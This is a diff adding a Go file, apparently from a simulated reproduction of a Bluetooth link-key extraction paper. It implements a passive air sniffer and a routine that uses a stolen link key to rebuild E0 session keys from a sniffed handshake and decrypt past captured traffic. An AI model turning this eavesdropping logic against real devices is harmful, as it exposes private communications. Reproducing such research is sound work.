@@ -1,0 +1,146 @@
+package core
+
+import (
+	"time"
+
+	"repro/internal/bt"
+	"repro/internal/btcrypto"
+	"repro/internal/controller"
+	"repro/internal/radio"
+)
+
+// Eavesdropping with an extracted link key (§IV): "A would be able to
+// decrypt not only the future, but also the past communications of M
+// captured by air-sniffers using the key." An AirSniffer passively records
+// baseband frames; once the link key extraction attack yields the key, the
+// recorded LMP handshake (challenge, encryption start random, key size) is
+// enough to re-derive the E0 session key and decrypt every captured
+// payload — past and future.
+
+// AirSniffer passively records all link traffic on a medium.
+type AirSniffer struct {
+	frames []radio.SniffedFrame
+}
+
+// NewAirSniffer attaches a sniffer to the medium. Frames sent after this
+// call are recorded.
+func NewAirSniffer(med *radio.Medium) *AirSniffer {
+	s := &AirSniffer{}
+	med.Sniff(func(f radio.SniffedFrame) { s.frames = append(s.frames, f) })
+	return s
+}
+
+// Frames returns the raw capture.
+func (s *AirSniffer) Frames() []radio.SniffedFrame { return s.frames }
+
+// Len returns the number of captured frames.
+func (s *AirSniffer) Len() int { return len(s.frames) }
+
+// Reset discards the capture.
+func (s *AirSniffer) Reset() { s.frames = nil }
+
+// RecoveredPayload is one decrypted (or plaintext) ACL payload from a
+// sniffed session.
+type RecoveredPayload struct {
+	At           time.Duration
+	From, To     bt.BDADDR
+	Data         []byte
+	WasEncrypted bool
+}
+
+// pairKey identifies a directed conversation independent of direction.
+type pairKey struct{ a, b bt.BDADDR }
+
+func keyFor(x, y bt.BDADDR) pairKey {
+	if x.String() < y.String() {
+		return pairKey{x, y}
+	}
+	return pairKey{y, x}
+}
+
+// sessionCrypto is the per-conversation key material reconstructed from
+// the sniffed handshake.
+type sessionCrypto struct {
+	master     bt.BDADDR // ConnAcceptPDU receiver (the connection initiator)
+	haveMaster bool
+	challenge  [16]byte // last AuRandPDU
+	claimant   bt.BDADDR
+	haveAuth   bool
+	encKey     [16]byte
+	haveEnc    bool
+}
+
+// DecryptWithKey replays the capture with a stolen link key: it recomputes
+// the ACO from the sniffed E1 challenge, derives the E0 session key from
+// the sniffed encryption-start random (honouring the negotiated key
+// size), and decrypts every recorded ACL payload. Plaintext payloads are
+// returned as-is with WasEncrypted=false.
+func (s *AirSniffer) DecryptWithKey(linkKey bt.LinkKey) []RecoveredPayload {
+	sessions := make(map[pairKey]*sessionCrypto)
+	get := func(from, to bt.BDADDR) *sessionCrypto {
+		k := keyFor(from, to)
+		sc := sessions[k]
+		if sc == nil {
+			sc = &sessionCrypto{}
+			sessions[k] = sc
+		}
+		return sc
+	}
+
+	var out []RecoveredPayload
+	for _, f := range s.frames {
+		sc := get(f.From, f.To)
+		switch pdu := f.Payload.(type) {
+		case controller.ConnAcceptPDU:
+			// Sent responder -> initiator; the initiator is the master.
+			sc.master = f.To
+			sc.haveMaster = true
+
+		case controller.AuRandPDU:
+			// Challenge flows verifier -> claimant; E1 binds the claimant
+			// address.
+			sc.challenge = pdu.Rand
+			sc.claimant = f.To
+			sc.haveAuth = true
+
+		case controller.EncStartPDU:
+			if !sc.haveAuth {
+				continue
+			}
+			_, aco := btcrypto.E1(linkKey, sc.challenge, [6]byte(sc.claimant))
+			kc := btcrypto.E3(linkKey, pdu.Rand, aco)
+			size := pdu.KeySize
+			if size < 1 || size > 16 {
+				size = 16
+			}
+			sc.encKey = btcrypto.ShrinkKey(kc, size)
+			sc.haveEnc = true
+
+		case controller.ACLPDU:
+			rec := RecoveredPayload{At: f.At, From: f.From, To: f.To, WasEncrypted: pdu.Encrypted}
+			if !pdu.Encrypted {
+				rec.Data = append([]byte(nil), pdu.Data...)
+				out = append(out, rec)
+				continue
+			}
+			if !sc.haveEnc || !sc.haveMaster {
+				continue // cannot decrypt without the sniffed handshake
+			}
+			rec.Data = btcrypto.EncryptPayload(sc.encKey, [6]byte(sc.master), pdu.Clock, pdu.Data)
+			out = append(out, rec)
+		}
+	}
+	return out
+}
+
+// EncryptedFrames counts the captured ciphertext payloads (what an
+// observer without the key is stuck with).
+func (s *AirSniffer) EncryptedFrames() int {
+	n := 0
+	for _, f := range s.frames {
+		if pdu, ok := f.Payload.(controller.ACLPDU); ok && pdu.Encrypted {
+			n++
+		}
+	}
+	return n
+}
